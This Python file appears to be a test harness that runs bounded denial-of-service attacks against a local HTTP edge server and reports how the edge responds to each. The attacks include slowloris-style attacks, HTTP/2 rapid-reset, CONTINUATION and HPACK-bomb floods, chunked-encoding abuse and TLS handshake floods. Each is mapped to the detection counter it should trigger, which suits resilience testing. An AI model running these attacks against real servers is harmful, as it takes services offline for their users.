"""The attacks. Each is bounded in time and in connections, and prints one JSON object: connections, frames or bytes sent, and what
the edge said to it, by how often.

    attacks.py NAME PORT SECONDS SOURCE
"""

import json
import socket
import sys
import time

import wire
from attacker import BATCH, H1, H2, Attack, each_stream, flood, steady, trickle
from wire import CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RESET, SETTINGS, WINDOW, frame


def upload(stream: int = 1) -> bytes:
    return wire.headers(stream, b"/upload", b"POST", flags=END_HEADERS)


def slow_head(a: Attack) -> None:
    trickle(a, 400, H1, b"GET /1k HTTP/1.1\r\nHost: localhost\r\n", b"x", 0.5)


def slow_body(a: Attack) -> None:
    trickle(a, 200, H1, b"POST /upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n", b"x", 0.5)


def slow_read(a: Attack) -> None:
    streams = a.open_many(150, H1, 4096)
    for stream in streams:
        a.send(stream, b"GET /4m HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    time.sleep(max(0, a.until - time.monotonic()))
    for stream in streams:
        try:
            size = 0
            stream.settimeout(0.2)
            while more := stream.recv(1 << 20):
                size += len(more)
            a.answers["whole answer" if size > 1 << 22 else "cut off"] += 1
        except TimeoutError:
            a.answers["still open"] += 1
        except OSError:
            a.answers["cut off"] += 1
        stream.close()


def zero_window(a: Attack) -> None:
    streams = a.open_many(60, H2)
    start = wire.preface(b"\x00\x04\x00\x00\x00\x00")  # SETTINGS_INITIAL_WINDOW_SIZE 0
    for stream in streams:
        a.send(stream, start + b"".join(wire.headers(2 * i + 1, b"/4m") for i in range(50)), 50)
    time.sleep(max(0, a.until - time.monotonic()))
    for stream in streams:
        a.hear(stream, True, 0.05)


def window_trickle(a: Attack) -> None:
    streams = a.open_many(60, H2)
    start = wire.preface(b"\x00\x04\x00\x00\x00\x01")
    for stream in streams:
        a.send(stream, start + b"".join(wire.headers(2 * i + 1, b"/4m") for i in range(20)), 20)
    drop = b"".join(frame(WINDOW, 0, 2 * i + 1, b"\0\0\0\1") for i in range(20))
    while a.goes_on():
        for stream in streams:
            a.send(stream, drop, 20)
        time.sleep(0.5)
    for stream in streams:
        a.hear(stream, True, 0.05)


def rapid_reset(a: Attack) -> None:
    flood(a, wire.preface(), each_stream(lambda n: wire.headers(n) + frame(RESET, 0, n, b"\0\0\0\x08")), BATCH)


def made_you_reset(a: Attack) -> None:
    flood(a, wire.preface(), each_stream(lambda n: wire.headers(n) + frame(WINDOW, 0, n, b"\0\0\0\0")), BATCH)


def broken_heads(a: Attack) -> None:
    flood(a, wire.preface(), each_stream(lambda n: wire.headers(n, more=wire.field(b"Upper", b"1"))), BATCH)


def continuation(a: Attack) -> None:
    flood(a, wire.preface() + frame(HEADERS, 1, 1, wire.request(b"/")),
          steady(frame(CONTINUATION, 0, 1, wire.field(b"a", b"b")) * 1000), 1000)


def settings_flood(a: Attack) -> None:
    flood(a, wire.preface(), steady(frame(SETTINGS, 0, 0) * 1000), 1000)


def ping_flood(a: Attack) -> None:
    flood(a, wire.preface(), steady(frame(PING, 0, 0, b"12345678") * 1000), 1000)


def priority_flood(a: Attack) -> None:
    flood(a, wire.preface(), steady(frame(PRIORITY, 0, 3, b"\0\0\0\0\1") * 1000), 1000)


def window_flood(a: Attack) -> None:
    flood(a, wire.preface(), steady(frame(WINDOW, 0, 0, b"\0\0\0\1") * 1000), 1000)


def empty_data(a: Attack) -> None:
    flood(a, wire.preface() + upload(), steady(frame(DATA, 0, 1) * 1000), 1000)


def tiny_data(a: Attack) -> None:
    flood(a, wire.preface() + upload(), steady(frame(DATA, 0, 1, b"x") * 1000), 1000)


def hpack_bomb(a: Attack) -> None:
    """A field of 3,000 octets is put in the table once; each octet behind it stands for the whole."""
    bomb = wire.field(b"bomb", b"x" * 3000, indexed=True) + b"\xbe" * 12000
    flood(a, wire.preface(), each_stream(lambda n: wire.headers(n, more=bomb)), BATCH)


def header_flood(a: Attack) -> None:
    head = b"GET /1k HTTP/1.1\r\nHost: localhost\r\n" + b"".join(b"X-%d: %s\r\n" % (i, b"y" * 100) for i in range(2000))
    flood(a, head, steady(b"Z: z\r\n" * 1000), 1000, H1)


def cookie_flood(a: Attack) -> None:
    crumbs = b"".join(wire.field(b"cookie", b"a%d=b" % i) for i in range(900))
    flood(a, wire.preface(), each_stream(lambda n: wire.headers(n, more=crumbs)), BATCH)


def tiny_chunks(a: Attack) -> None:
    flood(a, b"POST /upload HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n", steady(b"1\r\nx\r\n" * 10000), 10000, H1)


def chunk_extensions(a: Attack) -> None:
    flood(a, b"POST /upload HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1;", steady(b"e=1;" * 2000), 2000, H1)


def connection_flood(a: Attack) -> None:
    while a.goes_on():
        if stream := a.open(None):
            stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
            stream.close()


def handshake_flood(a: Attack) -> None:
    """The server signs, the client has nothing to do: full handshakes of which only the first flight is ever said."""
    hello = wire.client_hello()
    while a.goes_on():
        streams = [stream for _ in range(16) if (stream := a.open(None))]
        for stream in streams:
            a.send(stream, hello)
        for stream in streams:
            try:
                stream.settimeout(1)
                a.answers["ServerHello" if stream.recv(16) else "closed"] += 1
            except OSError:
                a.answers["reset"] += 1
            stream.close()


def half_open_handshakes(a: Attack) -> None:
    hello = wire.client_hello()
    streams = []
    while a.goes_on():
        if len(streams) < 600:
            streams += [stream for stream in a.open_many(16, None) if a.send(stream, hello)]
            continue
        oldest, streams = streams[:16], streams[16:]
        for stream in oldest:
            a.hear(stream, True, 0.01)
    for stream in streams:
        a.hear(stream, True, 0.001)


def slow_hello(a: Attack) -> None:
    hello = wire.client_hello()
    trickle(a, 800, None, hello[:-64], b"", 0.5, http2=True)


def memory(a: Attack) -> None:
    """From many networks at once: heads of 30 KiB that never end, as many as memory takes."""
    head = b"GET /1k HTTP/1.1\r\nHost: localhost\r\n" + b"X: " + b"y" * 30000
    streams: list[socket.socket] = []
    number = 0
    while a.goes_on() and len(streams) < 8000:
        number += 1
        stream = a.open(H1, source=f"127.1.{number // 200 % 250}.{number % 200 + 1}")
        if stream and a.send(stream, head):
            streams.append(stream)
    time.sleep(max(0, a.until - time.monotonic()))
    for stream in streams[:500]:
        a.hear(stream, False, 0.01)
    for stream in streams[500:]:
        stream.close()


# Each with the reason that the edge counts when it meets it; a row in which nothing of it was counted shows nothing.
MET_BY = {
    slow_head: "h1.head_timeout", slow_body: "h1.body_timeout", slow_read: "h1.write_timeout", zero_window: "h2.write_timeout",
    window_trickle: "h2.write_timeout", rapid_reset: "h2.flood", made_you_reset: "h2.connection_error", broken_heads: "h2.flood",
    continuation: "h2.flood", settings_flood: "h2.flood", ping_flood: "h2.flood", priority_flood: "h2.flood", window_flood: "h2.flood",
    empty_data: "h2.flood", tiny_data: "h2.flood", hpack_bomb: "h2.flood", header_flood: "h1.long_head", cookie_flood: "h2.long_head",
    tiny_chunks: "", chunk_extensions: "h1.long_chunk_line", connection_flood: "door.prefix_rate", handshake_flood: "door.prefix_rate",
    half_open_handshakes: "door.prefix_handshakes", slow_hello: "read", memory: "shed.unfinished_head"}
ATTACKS = {attack.__name__: attack for attack in MET_BY}


def main() -> None:
    name, port, seconds, source = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
    attack = Attack(port, seconds, source)
    ATTACKS[name](attack)
    print(json.dumps(attack.report()))


if __name__ == "__main__":
    main()
